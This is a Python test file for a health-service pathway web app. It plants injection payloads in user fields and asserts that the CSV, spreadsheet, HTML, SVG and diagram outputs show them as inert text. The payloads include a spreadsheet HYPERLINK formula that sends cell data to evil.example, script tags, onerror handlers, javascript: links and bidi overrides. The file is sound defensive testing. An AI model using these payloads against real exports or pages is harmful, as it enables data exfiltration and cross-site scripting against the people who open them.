"""Every output a person may open in a browser or a spreadsheet, fed hostile user text.

The operations are discovered from the OpenAPI document: each one that can answer CSV,
XLSX, HTML, SVG or Mermaid (text/plain) must have an entry in OUTPUTS, or
`test_every_output_is_listed` fails — as the access matrix does for write routes. Each
entry fetches the output from a world where every kind of user text it can show (titles,
names, texts, link labels, notes, answers, case stories) holds a payload: a formula start,
a script, an event handler and `javascript:` links. Each output must show the payload as
inert text: no formula, no script, no handler, no `javascript:` link, and the CSP where a
browser renders it. Bidirectional overrides cannot be planted at all (422, tests/core).
"""

import csv
import io
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from app.core.csvio import BOM, FORMULA_START
from app.core.db import get_engine
from tests import contents
from tests.factories import make_key, make_world

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
KINDS = {"text/csv": "csv", XLSX: "xlsx", "text/html": "html", "image/svg+xml": "svg",
         "text/plain": "mermaid"}  # fmt: skip
MARK = "alert("  # in every payload: proves the payload reached the output
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
_starts = iter(())


def hostile(short: bool = False) -> str:
    """A payload starting with the next formula start; `short` for 100-character fields."""
    global _starts
    start = next(_starts, None)
    if start is None:
        _starts = iter(["=", "+", "-", "@"] * 50)
        start = next(_starts)
    if short:
        return f"{start}1+1 <script>alert(1)</script><img src=x onerror=alert(2)>"
    return (
        f'{start}HYPERLINK("http://evil.example/?"&A2) <script>alert(1)</script>'
        "<img src=x onerror=alert(2)> [lenke](javascript:alert(3)) "
        '<a href="javascript:alert(4)">a</a>'
    )


# --- the world ------------------------------------------------------------------------


@contents.seeder("output-matrix")
def _seed() -> dict[str, Any]:
    engine = get_engine().execution_options(isolation_level="AUTOCOMMIT")
    with (
        Session(engine, expire_on_commit=False) as session,
        TestClient(contents.app(), raise_server_exceptions=False) as client,
    ):
        make_world(session)
        admin = {"Authorization": f"Bearer {make_key(session, role='admin')}"}
        return _plant(client, admin)


def _plant(client: TestClient, admin: dict[str, str]) -> dict[str, Any]:
    def ok(r):  # type: ignore[no-untyped-def]
        assert r.status_code in (200, 201, 204), (r.request.url, r.text)
        return r.json() if r.content else None

    put = {**admin, "If-None-Match": "*"}
    patch = {**admin, "If-Match": "*"}
    ok(client.patch("/v1/pathways/angst", json={"title": hostile()}, headers=patch))
    ok(client.patch("/v1/localities/4601", json={"name": hostile()}, headers=patch))
    for st in ("helsestasjon", "fastlege", "bup"):
        ok(client.patch(f"/v1/service-types/{st}", json={"name": hostile()}, headers=patch))
    ok(client.post("/v1/localities/4601/services",
                   json={"service_type": "fastlege", "name": hostile(),
                         "visiting_address": hostile()}, headers=admin))  # fmt: skip
    for where, mode in (("helse-vest", "replace"), ("4601", "append")):
        for st in ("helsestasjon", "fastlege", "bup"):
            for section in ("role", "referral", "measures"):
                url = f"/v1/localities/{where}/pathways/angst/texts/{st}/{section}"
                body = {"mode": mode, "text": hostile(), "lang": "nb", "status": "published"}
                ok(client.put(url, json=body, headers=put))
    links = "/v1/localities/4601/pathways/angst/links/helsestasjon"
    ok(client.put(links, json={"mode": "append", "refers_to": [
        {"service_type": "bup", "label": hostile(short=True)}]}, headers=put))  # fmt: skip
    now = datetime.now(UTC)
    rnd = ok(client.post("/v1/localities/bergen/review-rounds", headers=admin, json={
        "title": hostile(), "pathways": ["angst"],
        "opens_at": (now - timedelta(days=1)).isoformat(),
        "closes_at": (now + timedelta(days=30)).isoformat()}))  # fmt: skip
    ok(client.put(f"/v1/review-rounds/{rnd['id']}/assessments/4601/angst/helsestasjon",
                  json={"traffic_light": "red", "note": hostile()}, headers=admin))  # fmt: skip
    event = ok(client.post("/v1/localities/bergen/events", headers=admin, json={
        "title": hostile(), "date": "2027-03-11", "start_time": "09:00", "end_time": "15:00",
        "venue": hostile(), "capacity": 50, "status": "open", "learning_goals": hostile(),
        "table_min": 2, "table_max": 3}))  # fmt: skip
    e = event["id"]
    ok(client.put(f"/v1/events/{e}/programme", headers=patch, json={"items": [
        {"start_time": "09:00", "title": hostile(), "kind": "talk",
         "speaker": hostile(short=True)}]}))  # fmt: skip
    for i in range(3):
        ok(client.post(f"/v1/events/{e}/registrations", json={
            "name": hostile(short=True), "email": f"p{i}@example.no",
            "organisation": hostile(short=True), "municipality": "4601",
            "service_type": "helsestasjon", "kind": "professional"}))  # fmt: skip
    questions = ok(client.put(f"/v1/events/{e}/feedback-questions", headers=admin, json={
        "questions": [{"text": hostile(), "kind": "text"},
                      {"text": hostile(), "kind": "scale"}]}))  # fmt: skip
    [token] = ok(client.post(f"/v1/events/{e}/feedback-tokens", json={"count": 1},
                             headers=admin))["tokens"]  # fmt: skip
    q = questions["questions"]
    ok(client.post(f"/v1/feedback/{token}", json={"answers": [
        {"question": q[0]["id"], "text": hostile()},
        {"question": q[1]["id"], "value": 4}]}))  # fmt: skip
    ok(client.post(f"/v1/events/{e}/seating", json={"seed": 1},
                   headers=admin))  # fmt: skip
    case = ok(client.post("/v1/localities/4601/cases", headers=admin, json={
        "title": hostile(), "age": 9, "pathway": "angst", "entry_point": "helsestasjon",
        "story": hostile(), "concerns": [hostile()], "status": "published",
        "questions": [{"role": "helsestasjon", "questions": [hostile()]}]}))  # fmt: skip
    return {"admin": admin, "event": e, "round": rnd["id"], "case": case["id"]}


# --- the outputs ----------------------------------------------------------------------

Fetch = Callable[[TestClient, dict[str, Any]], Any]


def _get(path: str, **params: str) -> Fetch:
    def fetch(client: TestClient, t: dict[str, Any]) -> Any:
        return client.get(path.format(**t), params=params, headers=t["admin"])

    return fetch


# The public pages of a collaboration day (app/events/pages). Their links are minted here,
# as a participant would get them: an answer link from the organiser, a cancel link from
# registering (with a hostile name and organisation) through the API.
SAME_ORIGIN = {"Origin": "http://testserver"}


def _answer_link(client: TestClient, t: dict[str, Any]) -> str:
    r = client.post(f"/v1/events/{t['event']}/feedback-tokens", json={"count": 1},
                    headers=t["admin"])  # fmt: skip
    assert r.status_code == 201, r.text
    return f"/v1/feedback/{r.json()['tokens'][0]}/answer"


def _cancel_link(client: TestClient, t: dict[str, Any]) -> str:
    r = client.post(f"/v1/events/{t['event']}/registrations", json={
        "name": hostile(short=True), "email": "cancel@example.no",
        "organisation": hostile(short=True), "municipality": "4601", "kind": "professional",
        "service_type": "helsestasjon",
        "dietary": hostile()})  # fmt: skip
    assert r.status_code == 201, r.text
    return f"/v1/registrations/{r.json()['cancel_token']}/cancel"


def _post_form(page: str, form: Callable[[], dict[str, str]], times: int = 1) -> Fetch:
    """Post the page's own form (its form token, same origin), as a browser would."""

    def fetch(client: TestClient, t: dict[str, Any]) -> Any:
        path = page.format(**t)
        shown = client.get(path)
        assert shown.status_code == 200, shown.text
        match = re.search(r'name="form_token" value="([^"]+)"', shown.text)
        assert match, "the page has no form token"
        data = {**form(), "form_token": match.group(1)}
        for _ in range(times):
            r = client.post(path, data=data, headers=SAME_ORIGIN)
        return r

    return fetch


def _page(
    link: Callable[[TestClient, dict[str, Any]], str], post: bool = False, **kw: Any
) -> Fetch:
    def fetch(client: TestClient, t: dict[str, Any]) -> Any:
        path = link(client, t)
        if post:
            return _post_form(path, **kw)(client, t)
        return client.get(path)

    return fetch


# A form body passes no JSON check, so the posted texts carry bidi overrides too: refused
# (422, the form again), and not shown again.
RLO, LRI = "\u202e", "\u2066"


def _registration_form() -> dict[str, str]:
    """Hostile fields and no e-mail address: the form comes back with the fields shown."""
    return {"name": RLO + hostile(short=True), "email": "", "municipality": "4601",
            "organisation": hostile(short=True) + LRI, "kind": "professional",
            "service_type": "helsestasjon", "dietary": hostile() + RLO}  # fmt: skip


def _feedback_post(client: TestClient, t: dict[str, Any]) -> Any:
    """A hostile text answer and an impossible scale value: the form is shown again."""
    questions = client.get(f"/v1/events/{t['event']}/feedback-questions", headers=t["admin"])
    assert questions.status_code == 200, questions.text
    text, scale = (q["id"] for q in questions.json()["questions"])
    form = {f"q{text}": hostile() + RLO, f"q{scale}": "9"}
    return _post_form(_answer_link(client, t), lambda: form)(client, t)


OUTPUTS: dict[tuple[str, str], Fetch] = {
    ("get_event_feedback_summary", "text/csv"): _get("/v1/events/{event}/feedback", format="csv"),
    ("list_event_registrations", "text/csv"): _get(
        "/v1/events/{event}/registrations", format="csv"
    ),
    ("get_event_seating", "text/csv"): _get("/v1/events/{event}/seating", format="csv"),
    ("get_event_seating", "text/html"): _get("/v1/events/{event}/seating", format="html"),
    ("walk_case", "text/html"): _get("/v1/localities/4601/cases/{case}/walk", format="html"),
    ("get_pathway_embed", "text/html"): _get("/v1/localities/4601/pathways/angst/embed"),
    ("get_pathway_map", "image/svg+xml"): _get(
        "/v1/localities/4601/pathways/angst/map", format="svg"
    ),
    ("get_pathway_map", "text/plain"): _get(
        "/v1/localities/4601/pathways/angst/map", format="mermaid"
    ),
    ("get_service_map", "text/csv"): _get("/v1/localities/4601/service-map", format="csv"),
    ("get_review_matrix", "text/csv"): _get("/v1/review-rounds/{round}/matrix", format="csv"),
    ("get_review_workbook", XLSX): _get("/v1/review-rounds/{round}/workbook", municipality="4601"),
    ("get_event_feedback_summary", XLSX): _get("/v1/events/{event}/feedback", format="xlsx"),
    ("list_event_registrations", XLSX): _get("/v1/events/{event}/registrations", format="xlsx"),
    ("get_service_map", XLSX): _get("/v1/localities/4601/service-map", format="xlsx"),
    ("get_review_matrix", XLSX): _get("/v1/review-rounds/{round}/matrix", format="xlsx"),
    ("get_registration_page", "text/html"): _get("/v1/events/{event}/register"),
    ("post_registration_page", "text/html"): _post_form(
        "/v1/events/{event}/register", _registration_form
    ),
    ("get_cancel_page", "text/html"): _page(_cancel_link),
    # Cancelled, the page thanks without naming anything; posted again, it shows the state.
    ("post_cancel_page", "text/html"): _page(_cancel_link, post=True, form=dict, times=2),
    ("get_feedback_page", "text/html"): _page(_answer_link),
    ("post_feedback_page", "text/html"): _feedback_post,
    ("get_event_poster", "text/html"): _get("/v1/events/{event}/poster"),
    ("print_event_feedback_cards", "text/html"): lambda c, t: c.post(
        f"/v1/events/{t['event']}/feedback-cards", headers=t["admin"]
    ),
}
# What a page answers when it is not a plain 200: made (201), or the form again (422).
STATUS = {
    ("post_registration_page", "text/html"): 422,
    ("post_feedback_page", "text/html"): 422,
    ("print_event_feedback_cards", "text/html"): 201,
}


def _outputs() -> set[tuple[str, str]]:
    found = set()
    for item in contents.app().openapi()["paths"].values():
        for op in item.values():
            for code, response in op.get("responses", {}).items():
                if code.startswith("2"):
                    found |= {(op["operationId"], m) for m in response.get("content", {})
                              if m.split(";")[0] in KINDS}  # fmt: skip
    return found


def test_every_output_is_listed():
    found = _outputs()
    assert len(found) >= 10
    missing = found - set(OUTPUTS)
    assert not missing, f"outputs without a hostile-text check in OUTPUTS: {sorted(missing)}"
    assert not set(OUTPUTS) - found, f"listed but gone: {sorted(set(OUTPUTS) - found)}"


# --- what each kind must hold ---------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _active(name: str, value: str | None) -> bool:
    """An attribute that runs something: an event handler or a javascript: URL."""
    squeezed = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
    return name.lower().startswith("on") or squeezed.startswith(("javascript:", "vbscript:"))


def check_csv(r: Any) -> None:
    assert r.content.startswith(BOM)
    cells = [c for row in csv.reader(io.StringIO(r.content[len(BOM) :].decode())) for c in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    assert any(MARK in c for c in cells), "no planted text reached this CSV"


def check_xlsx(r: Any) -> None:
    wb = load_workbook(io.BytesIO(r.content))
    shown = False
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    shown = shown or MARK in cell.value
                    if cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    assert shown, "no planted text reached this workbook"


def check_html(r: Any) -> None:
    assert "script-src" not in r.headers["content-security-policy"]
    assert "default-src 'none'" in r.headers["content-security-policy"]
    parser = _Tags()
    parser.feed(r.text)
    for tag, attrs in parser.tags:
        assert tag not in ("script", "iframe", "object", "embed", "base"), tag
        assert not [(n, v) for n, v in attrs if _active(n, v)], (tag, attrs)
        if tag == "form":  # a page's own form only: posting back to this server
            assert "form-action 'self'" in r.headers["content-security-policy"]
            action = dict(attrs).get("action") or ""
            assert action.startswith("/v1/") and dict(attrs).get("method") == "post", attrs
    assert MARK in "".join(parser.text), "no planted text reached this page as text"


def check_svg(r: Any) -> None:
    assert "default-src 'none'" in r.headers["content-security-policy"]
    root = ET.fromstring(r.content)
    texts = []
    for el in root.iter():
        local = el.tag.rsplit("}", 1)[-1].lower()
        assert local not in ("script", "foreignobject", "iframe"), local
        assert not [(n, v) for n, v in el.attrib.items() if _active(n.rsplit("}", 1)[-1], v)]
        texts.append(el.text or "")
    assert MARK in "".join(texts), "no planted text reached this picture as text"


def check_mermaid(r: Any) -> None:
    labels = re.findall(r'"([^"]*)"', r.text)
    assert labels
    assert [label for label in labels if "<" in label or ">" in label] == []
    assert any(MARK in label for label in labels), "no planted text reached this diagram"


CHECKS = {"csv": check_csv, "xlsx": check_xlsx, "html": check_html, "svg": check_svg,
          "mermaid": check_mermaid}  # fmt: skip


@pytest.fixture
def planted(db_url: str, backend: str) -> dict[str, Any]:
    return contents.result(backend, "output-matrix")


@pytest.mark.db_content("output-matrix")
@pytest.mark.parametrize("output", sorted(OUTPUTS), ids=lambda o: f"{o[0]} {o[1]}")
def test_output_shows_hostile_text_as_inert_text(client, planted, output):
    if output[1] == "image/svg+xml":
        from app.maps.render import dot_binary

        if dot_binary() is None:
            pytest.skip("Graphviz (dot) is not installed")
    r = OUTPUTS[output](client, planted)
    assert r.status_code == STATUS.get(output, 200), r.text
    assert r.headers["content-type"].split(";")[0] == output[1]
    assert r.headers["x-content-type-options"] == "nosniff"
    assert not BIDI.search(r.content.decode("utf-8", errors="replace"))
    CHECKS[KINDS[output[1]]](r)
